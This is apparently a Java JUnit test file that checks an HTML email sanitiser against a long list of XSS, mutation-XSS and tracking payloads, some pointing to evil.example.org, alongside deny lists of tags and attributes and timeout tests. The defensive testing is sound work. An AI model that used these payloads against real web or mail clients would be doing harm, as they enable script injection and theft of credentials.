package heed.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a customer's HTML may try, and what is left of it. */
class HostileMailTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>x",
                "<ScRiPt src=//evil.example.org></sCrIpT>x",
                "<scr<script>ipt>alert(1)</scr</script>ipt>x",
                "<img src=x onerror=alert(1)>x",
                "<img src=\"cid:a\" onload=alert(1)>x",
                "<img src='cid:a\" onerror=\"alert(1)'>x",
                "<svg onload=alert(1)><circle/></svg>x",
                "<svg><script>alert(1)</script></svg>x",
                "<svg><style><img src=x onerror=alert(1)></style></svg>x",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">x",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x",
                "<template><img src=x onerror=alert(1)></template>x",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:x\">x</a>",
                "<a href=\"/sign-out\">x</a>",
                "<a href=\"../settings/people\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"//evil.example.org\" target=_top onclick=alert(1)>x</a>",
                "<iframe src=//evil.example.org></iframe>x",
                "<object data=//evil.example.org></object><embed src=//evil.example.org>x",
                "<form action=//evil.example.org><input name=password><button>x</button></form>",
                "<base href=//evil.example.org/>x",
                "<meta http-equiv=refresh content='0;url=//evil.example.org'>x",
                "<link rel=stylesheet href=//evil.example.org>x",
                "<style>@import '//evil.example.org'; body{display:none}</style>x",
                "<p style=\"background:url(//evil.example.org/pixel)\">x</p>",
                "<p style=\"background:u\\72l(//evil.example.org)\">x</p>",
                "<p style=\"background-image:image-set('//evil.example.org' 1x)\">x</p>",
                "<p style=\"position:fixed;top:0;left:0;width:100%;z-index:9\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<p style=\"-moz-binding:url(//evil.example.org)\">x</p>",
                "<p style=\"behavior:url(x.htc)\">x</p>",
                "<table background=//evil.example.org><tr><td background=http://evil.example.org>x</td></tr></table>",
                "<img srcset=\"http://evil.example.org/a 1x\">x",
                "<img src=\"//evil.example.org/a\">x",
                "<img src=\"\thttp://evil.example.org/a\">x",
                "<img src=\"&#104;ttp://evil.example.org/a\">x",
                "<img src=\"ftp://evil.example.org/a\">x",
                "<img src=\"http:evil.example.org\">x",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">x",
                "<picture><source srcset=http://evil.example.org><img src=http://evil.example.org></picture>x",
                "<video src=http://evil.example.org autoplay poster=http://evil.example.org></video>x",
                "<audio src=http://evil.example.org></audio>x",
                "<input type=image src=http://evil.example.org>x",
                "<body onload=alert(1) background=http://evil.example.org>x",
                "<div id=talk name=heed class=button>x</div>",
                "<heed-live src=/live></heed-live>x",
                "<div hx-get=/conversations/1 hx-trigger=load data-hx-get=/x>x</div>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<x contenteditable autofocus onfocus=alert(1)>x</x>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->x",
                "<![CDATA[<script>alert(1)</script>]]>x",
                "<title><script>alert(1)</script></title>x",
                "<textarea><script>alert(1)</script></textarea>x",
                "<plaintext>x",
            })
    void nothing_runs_nothing_is_fetched_nothing_leaves_its_place(String html) {
        // when
        var clean = MailHtml.sanitise(html);
        // then
        var body = Jsoup.parseBodyFragment(clean == null ? "" : clean).body();
        for (var element : body.getAllElements()) {
            assertThat(element.normalName())
                    .isNotIn(
                            "script",
                            "style",
                            "svg",
                            "math",
                            "iframe",
                            "object",
                            "embed",
                            "form",
                            "input",
                            "button",
                            "base",
                            "meta",
                            "link",
                            "template",
                            "noscript",
                            "video",
                            "audio",
                            "source",
                            "picture",
                            "textarea",
                            "heed-live");
            for (var attribute : element.attributes()) {
                var name = attribute.getKey();
                var value = attribute.getValue().toLowerCase();
                assertThat(name).doesNotStartWith("on").doesNotStartWith("hx-");
                assertThat(name)
                        .isNotIn(
                                "id",
                                "class",
                                "name",
                                "target",
                                "srcset",
                                "background",
                                "action",
                                "poster",
                                "data-hx-get",
                                "contenteditable",
                                "autofocus",
                                "http-equiv");
                if (name.equals("src")) {
                    assertThat(value).startsWith("cid:");
                }
                if (name.equals("href")) {
                    assertThat(value).matches("(https?|mailto|tel|cid):.*");
                }
                if (name.equals("style")) {
                    assertThat(value)
                            .doesNotContain("url", "expression", "position", "fixed", "z-index")
                            .doesNotContain("binding", "behavior", "image-set", "\\");
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div>",
                "<blockquote>",
                "<table><tr><td>",
                "<b>",
                "<a href=http://x.example.org>",
                "<ul><li>"
            })
    void html_of_any_depth_is_read_in_bearable_time(String tag) {
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> MailHtml.sanitise(tag.repeat(100_000) + "x"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"<", "<a ", "<!--", "&#", "<p style='", "<img src=cid:a alt=x>", "\"'<>"})
    void broken_html_of_any_length_is_read_in_bearable_time(String piece) {
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> MailHtml.sanitise(piece.repeat(200_000)));
    }

    @Test
    void what_a_customer_may_write_is_left_as_it_is() {
        assertThat(
                        MailHtml.sanitise(
                                "<p dir=\"rtl\">a <a href=\"https://example.org/b?c=d\">b</a> <b>c</b></p>"
                                        + "<table><tr><td>d</td></tr></table><img src=\"cid:e\">"))
                .contains("dir=\"rtl\"", "href=\"https://example.org/b?c", "<b>c</b>", "<td>d</td>")
                .contains("src=\"cid:e\"");
    }

    @Test
    void a_picture_from_elsewhere_waits_for_somebody_to_ask_for_it() {
        assertThat(MailHtml.sanitise("<img src=https://example.org/a.png width=200 alt=cat>"))
                .contains("data-src=\"https://example.org/a.png\"")
                .doesNotContain(" src=");
    }
}
